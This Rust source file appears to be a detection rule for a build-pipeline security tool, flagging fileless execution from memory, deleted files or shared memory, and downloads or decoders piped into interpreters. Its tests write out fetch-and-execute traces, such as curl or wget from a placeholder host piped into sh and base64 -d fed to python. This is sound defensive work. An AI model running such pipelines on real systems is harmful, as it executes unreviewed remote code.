//! A program runs that no file holds, or that a download was poured into.
//!
//! ## What it sees
//! A program launched from memory (`memfd_create`), from a file that was removed before, or from `/dev/shm`; an interpreter without a
//! script of its own that was started beside a download or a decoder, as `curl … | sh` and `base64 -d | sh` do, by other people's code.
//!
//! ## Why it matters
//! What no file holds can't be looked at later, and scanners of files never see it.
//!
//! ## What to do
//! Find what the interpreter was fed: the finding names the download beside it. Let the package bring its code as files.
//!
//! ## Known limits
//! Pipes are not recorded: programs that the same shell started together count as one. What the step's own text pours into a shell is
//! the author's choice and no finding.

use std::sync::Arc;

use super::{Act, Detection, Ground, Hit, attack, follows_arguments, ground, is_work, named};
use crate::divergence::Effect;
use crate::event::{Activity, Launch};
use crate::finding::{Confidence, RuleId, Severity, Technique};
use crate::intent::{basename, is_shell};

pub const DETECTION: Detection = Detection {
    id: RuleId("fileless-obfuscated-exec"),
    severity: Severity::High,
    confidence: Confidence::High,
    techniques: &[Technique("T1620"), Technique("T1027"), Technique("T1105")],
    references: &["CVE-2025-30066"],
    frameworks: &["CICD-SEC-3", "ASI05"],
    remedy: "Remove what started this program, and look in the recording for where its code came from.",
    source: include_str!("fileless_obfuscated_exec.rs"),
    check,
};

/// How far apart the two ends of a pipe may start.
const TOGETHER_NS: u64 = 2_000_000_000;
/// Programs that turn text into code.
const DECODERS: &[&str] =
    &["base64", "base32", "basenc", "xxd", "uudecode", "openssl", "gunzip", "zcat", "xzcat"];

fn check(act: &Act<'_>) -> Vec<Hit> {
    let (Effect::Launch { .. }, Activity::Launch(launch)) = (act.effect, act.activity) else {
        return Vec::new();
    };
    let who = named(act.lineage, act.process.key);
    let ground = ground(act);
    let file = &launch.executable;
    let confidence = if ground == Ground::Foreign { Confidence::High } else { Confidence::Medium };
    let is_in_memory = file.path.starts_with("memfd:") || file.path.starts_with("/memfd:");
    if is_in_memory || file.deleted {
        // A program that starts itself again keeps its object, removed or not; container runtimes run a copy in memory.
        if is_work(act, "container-clients") || starts_itself(act, launch) {
            return Vec::new();
        }
        let place = if is_in_memory { "from memory" } else { "from a file that was removed" };
        return attack(
            act,
            &DETECTION,
            (Severity::High, confidence),
            format!("{who} runs {place}"),
            &file.path,
        );
    }
    if launch.program().path.starts_with("/dev/shm/") {
        let weight = match ground {
            Ground::Foreign => (Severity::High, Confidence::High),
            _ => (Severity::Low, Confidence::Medium),
        };
        return attack(
            act,
            &DETECTION,
            weight,
            format!("{who} runs from shared memory"),
            &launch.program().path,
        );
    }
    if ground != Ground::Foreign || !reads_its_input(launch) {
        return Vec::new();
    }
    let is_near = |time: u64| time.abs_diff(act.process.started.0) <= TOGETHER_NS;
    for beside in act.lineage.siblings(act.process.key) {
        let name = beside.launch.as_deref().map_or("", |launch| basename(&launch.executable.path));
        let is_source = follows_arguments(beside) || DECODERS.contains(&name);
        if is_source && beside.launched && is_near(beside.started.0) {
            let title = format!("{who} runs what {} gave it", beside.name);
            let mut hits =
                attack(act, &DETECTION, (Severity::High, Confidence::High), title, &launch.executable.path);
            hits[0].evidence.push(beside.evidence);
            return hits;
        }
    }
    Vec::new()
}

fn starts_itself(act: &Act<'_>, launch: &Launch) -> bool {
    act.lineage.ancestors(act.process.key).take(2).filter_map(|above| above.launch.as_ref()).any(
        |above: &Arc<Launch>| {
            launch.executable.inode != 0
                && (above.executable.device, above.executable.inode)
                    == (launch.executable.device, launch.executable.inode)
        },
    )
}

/// Whether an interpreter takes its code from its input: no script, no `-c`.
fn reads_its_input(launch: &Launch) -> bool {
    let name = basename(&launch.executable.path);
    let interpreter = ["python", "node", "perl", "ruby", "php"].iter().any(|known| {
        name.strip_prefix(known)
            .is_some_and(|rest| rest.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.'))
    });
    if launch.script.is_some() || !(interpreter || is_shell(name)) {
        return false;
    }
    let words = launch.arguments.get(1..).unwrap_or_default();
    match words.iter().position(|word| !word.starts_with('-') || word == "-" || word == "--") {
        Some(at) if words[at] == "-" => true,
        // `sh -s -- words` reads its input too.
        Some(at) => is_shell(name) && words[..at].iter().any(|word| word == "-s"),
        None => {
            !words.iter().any(|word| {
                word.starts_with("--version")
                    || (!word.starts_with("--") && word.contains(['c', 'e', 'V', 'm', 'p', 'r']))
            }) || words
                .iter()
                .all(|word| matches!(word.as_str(), "-e" | "-eu" | "-ex" | "-eux") && is_shell(name))
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::trace::{expect, findings};

    #[test]
    fn programs_from_memory_and_from_removed_files() {
        for path in ["!memfd:aws(deleted)", "!/tmp/x(deleted)"] {
            let lines = findings(
                "make\n",
                "",
                &format!(
                    "1 > 2 launch /usr/bin/make make\n2 > 3 launch /usr/bin/python3.11 python3 x.py\n3 launch {path} x"
                ),
            );
            let object = path.trim_start_matches('!').trim_end_matches("(deleted)");
            assert_eq!(lines, [format!("!fileless-obfuscated-exec attack high {object}")]);
        }
    }

    #[test]
    fn a_download_or_a_decoder_poured_into_an_interpreter() {
        for (source, sink) in [
            ("/usr/bin/curl curl -s https://a.example/x", "/usr/bin/dash sh"),
            ("/usr/bin/wget wget -qO- x", "/usr/bin/bash bash -s -- a"),
            ("/usr/bin/base64 base64 -d", "/usr/bin/python3.11 python3 -"),
            ("/usr/bin/curl curl x", "/usr/bin/node node"),
        ] {
            let lines = findings(
                "npm ci\n",
                "",
                &format!(
                    "1 > 2 launch /usr/bin/node node /usr/bin/npm ci\n2 > 3 launch /usr/bin/dash sh -c x\n3 > 4 launch {source}\n3 > 5 launch {sink}"
                ),
            );
            assert_eq!(lines.len(), 1, "{source} {sink}: {lines:?}");
            assert!(lines[0].starts_with("!fileless-obfuscated-exec attack high /usr/bin/"), "{lines:?}");
        }
    }

    #[test]
    fn what_the_author_pours_into_a_shell_and_ordinary_scripts_stay_quiet() {
        expect(
            "curl -sSf https://a.example/install.sh | sh\nnpm ci\n",
            "answer a.example 203.0.113.1
             1 > 2 launch /usr/bin/curl curl -sSf https://a.example/install.sh
             2 connect 203.0.113.1:443
             1 > 3 launch /usr/bin/dash sh
             1 > 4 launch /usr/bin/node node /usr/bin/npm ci
             4 > 5 launch /usr/bin/dash sh -c node\\ install.js
             5 > 6 launch /usr/bin/base64 base64 -w0
             5 > 7 launch /usr/bin/node node install.js
             5 > 8 launch /usr/bin/python3.11 python3 -c x
             5 > 9 launch /usr/bin/node node --version",
            &[],
        );
    }
}
